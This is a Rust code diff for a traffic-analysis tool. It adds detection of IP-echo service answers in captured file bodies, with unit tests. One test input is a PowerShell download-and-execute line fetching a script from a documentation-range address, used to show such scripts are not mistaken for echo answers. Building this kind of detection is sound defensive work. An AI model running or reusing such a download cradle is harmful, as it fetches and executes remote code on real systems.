@@ -20,6 +20,7 @@ use crate::capture::hex;
 use crate::record::{FileRecord, Record, RecordSink};
 use sha1::Digest;
 use std::io::Write;
+use std::net::IpAddr;
 use std::path::PathBuf;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
@@ -742,6 +743,66 @@ fn sniff(prefix: &[u8], zip_names: &[String], ole_vba: bool) -> Sniffed {
     }
 }
 
+/// Longest body [`text_address`] reads: an IP-echo answer is an address and perhaps a label or a
+/// little markup; anything longer says more than the caller's address.
+pub const ECHO_MAX: usize = 256;
+
+/// The one IP address a short text body names, markup and labels aside: what an IP-echo service
+/// answers (`203.0.113.9`, `Current IP Address: 203.0.113.9` in a bare HTML page, `{"ip":"..."}`).
+/// None for a body longer than [`ECHO_MAX`], one that is not text, or one naming no address or two
+/// different ones, or naming one as a URL's host (`http://192.0.2.1/`: a link, not an answer). Tokens
+/// are runs of hex digits, dots and colons; a trailing dot or colon is punctuation; `::` alone is no
+/// address.
+pub fn text_address(body: &[u8]) -> Option<IpAddr> {
+    if body.is_empty() || body.len() > ECHO_MAX {
+        return None;
+    }
+    let text = std::str::from_utf8(body).ok()?;
+    if text
+        .chars()
+        .any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
+    {
+        return None;
+    }
+    // markup aside: tag names and attributes are not the answer
+    let mut bare = String::with_capacity(text.len());
+    let mut in_tag = false;
+    for c in text.chars() {
+        match c {
+            '<' => in_tag = true,
+            '>' if in_tag => {
+                in_tag = false;
+                bare.push(' ');
+            }
+            _ if !in_tag => bare.push(c),
+            _ => {}
+        }
+    }
+    let mut found: Option<IpAddr> = None;
+    for tok in bare.split(|c: char| !(c.is_ascii_hexdigit() || c == '.' || c == ':')) {
+        // where the token starts in `bare` (split hands out subslices of it)
+        let start = (tok.as_ptr() as usize).saturating_sub(bare.as_ptr() as usize);
+        let tok = tok.trim_end_matches(['.', ':']);
+        let Ok(a) = tok.parse::<IpAddr>() else {
+            continue;
+        };
+        if a.is_unspecified() {
+            continue;
+        }
+        if bare
+            .get(..start)
+            .is_some_and(|b| b.ends_with("//") || b.ends_with('@'))
+        {
+            return None;
+        }
+        match found {
+            Some(f) if f != a => return None,
+            _ => found = Some(a),
+        }
+    }
+    found
+}
+
 impl FileBody {
     /// A body starts. `extract`: where to write it, if extraction is on.
     pub fn new(meta: BodyMeta, ctx: &ConnCtx, extract: Option<&Arc<Extract>>) -> FileBody {
@@ -880,6 +941,18 @@ impl FileBody {
             .unwrap_or_default();
         let vba = sink.ole_vba.as_ref().is_some_and(|(f, _)| *f);
         let sn = sniff(&sink.prefix, &names, vba);
+        // an IP-echo answer: a whole short text, from the server, naming an address not its own (a
+        // script or page that names its server - a dropper's download URL - is no echo)
+        let server = if swap { ctx.orig_h } else { ctx.resp_h };
+        let echo = if whole
+            && !self.meta.is_orig
+            && sink.seen as usize == sink.prefix.len()
+            && matches!(sn.class, "text" | "html")
+        {
+            text_address(&sink.prefix).filter(|a| *a != server)
+        } else {
+            None
+        };
         let entropy = sink.entropy();
         let (md5, sha1, sha256) = (
             hex(&std::mem::take(&mut sink.md5).finalize()),
@@ -922,6 +995,7 @@ impl FileBody {
             sha256: whole.then_some(sha256.as_str()),
             entropy,
             archive_entries: &names,
+            text_address: echo,
             extracted: extracted.as_deref(),
             source: &ctx.source,
             community_id: &ctx.community_id,
@@ -976,6 +1050,43 @@ impl ExtractFile {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn text_address_reads_ip_echo_answers_only() {
+        let a = |s: &str| text_address(s.as_bytes()).map(|a| a.to_string());
+        // what IP-echo services answer: bare, labelled, in a bare page, in JSON
+        assert_eq!(a("203.0.113.9"), Some("203.0.113.9".into()));
+        assert_eq!(a("198.51.100.7\n"), Some("198.51.100.7".into()));
+        assert_eq!(
+            a(
+                "<html><head><title>Current IP Check</title></head><body>Current IP Address: 203.0.113.9</body></html>\r\n"
+            ),
+            Some("203.0.113.9".into())
+        );
+        assert_eq!(a("{\"ip\":\"2001:db8::5\"}"), Some("2001:db8::5".into()));
+        assert_eq!(a("Your IP is 192.0.2.1."), Some("192.0.2.1".into()));
+        // the same address twice is still one answer
+        assert_eq!(a("ip=192.0.2.1 (192.0.2.1)"), Some("192.0.2.1".into()));
+        // not an echo: two addresses, none, a version number, a time, `::`, binary, too long
+        assert_eq!(a("192.0.2.1 192.0.2.2"), None);
+        assert_eq!(a("false\n"), None);
+        assert_eq!(a("Microsoft Connect Test"), None);
+        assert_eq!(a("version 1.2.3 at 12:30:45"), None);
+        assert_eq!(a("a :: b"), None);
+        assert_eq!(text_address(b"\x00\x01192.0.2.1"), None);
+        assert_eq!(a(&format!("192.0.2.1 {}", "x".repeat(ECHO_MAX))), None);
+        assert_eq!(text_address(b""), None);
+        // an address inside a tag is markup, not the answer
+        assert_eq!(a("<a href=\"http://192.0.2.1/\">home</a>"), None);
+        // a script or text naming a URL's host is a link, not an answer
+        assert_eq!(
+            a("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
+            None
+        );
+        assert_eq!(a("ftp://user@192.0.2.1"), None);
+        assert_eq!(a("ĂĂ http://192.0.2.1"), None);
+        assert_eq!(a("Ăddress: 192.0.2.1"), Some("192.0.2.1".into()));
+    }
+
     use super::*;
 
     #[test]
